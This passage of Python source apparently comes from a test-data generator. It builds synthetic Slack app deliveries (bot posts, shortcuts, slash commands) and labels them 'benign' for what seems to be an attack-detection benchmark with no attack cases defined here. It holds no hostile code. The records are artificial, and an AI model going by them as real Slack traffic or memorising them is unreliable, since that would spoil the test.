        user, team_doc = self.who(team, domain)
        channel_id, channel_name = self.channel(self.pick(["ci", "alerts", "security", "db", "cloud", "review",
                                                           "incident", "issues"]))
        msg_ts = self.ts(at - self.rng.randint(30, 86400))
        message = self.bot_message(self.post_any(), team, msg_ts)
        payload = {"type": "message_action", "token": _token("verification" + team), "action_ts": self.ts(at),
                   "team": team_doc, "user": user, "channel": {"id": channel_id, "name": channel_name},
                   "is_enterprise_install": False, "enterprise": None,
                   "callback_id": self.pick(["jeeves_remind", "jeeves_save_note", "jeeves_explain",
                                             "jeeves_report_problem"]),
                   "trigger_id": self.trigger_id(), "response_url": self.hook(team, "app"),
                   "message_ts": msg_ts, "message": message}
        return self.interaction(payload, at)


KINDS: list[tuple[str, int]] = [
    ("ci_build", 120), ("test_failure", 100), ("code_review", 100), ("monitoring_alert", 110), ("incident", 70),
    ("issue_tracker", 90), ("security_finding", 100), ("slow_query", 70), ("cloud_console", 100),
    ("link_shared", 100), ("message_changed", 80), ("app_home_opened", 60), ("workflow_form", 60),
    ("file_snippet", 40), ("slash_command", 120), ("block_actions", 60), ("view_submission", 70),
    ("message_shortcut", 60),
]


attacks = no_attacks


def benign() -> Iterator[dict[str, Any]]:
    """About 1,500 Slack deliveries caused by other apps and integrations, interleaved as a workspace sees them."""
    gen = _Gen()
    makers: dict[str, Callable[[], Doc]] = {
        "ci_build": lambda: gen.ev_bot_post(gen.post_ci, "ci"),
        "test_failure": lambda: gen.ev_bot_post(gen.post_tests, "ci"),
        "code_review": lambda: gen.ev_bot_post(gen.post_review, "review"),
        "monitoring_alert": lambda: gen.ev_bot_post(gen.post_alert, "alerts"),
        "incident": lambda: gen.ev_bot_post(gen.post_incident, "incident"),
        "issue_tracker": lambda: gen.ev_bot_post(gen.post_issue, "issues"),
        "security_finding": lambda: gen.ev_bot_post(gen.post_security, "security"),
        "slow_query": lambda: gen.ev_bot_post(gen.post_slowquery, "db"),
        "cloud_console": lambda: gen.ev_bot_post(gen.post_cloud, "cloud"),
        "link_shared": gen.ev_link_shared, "message_changed": gen.ev_message_changed, "app_home_opened": gen.ev_home,
        "workflow_form": gen.ev_workflow, "file_snippet": gen.ev_snippet, "slash_command": gen.slash_command,
        "block_actions": gen.block_actions, "view_submission": gen.view_submission,
        "message_shortcut": gen.message_shortcut,
    }
    order = [kind for kind, count in KINDS for _ in range(count)]
    gen.rng.shuffle(order)
    numbers: dict[str, int] = {}
    for kind in order:
        numbers[kind] = numbers.get(kind, 0) + 1
        rec = makers[kind]()
        yield {**rec, "id": f"slackapps-benign-{kind}-{numbers[kind]:04d}", "category": "benign", "sub": kind}
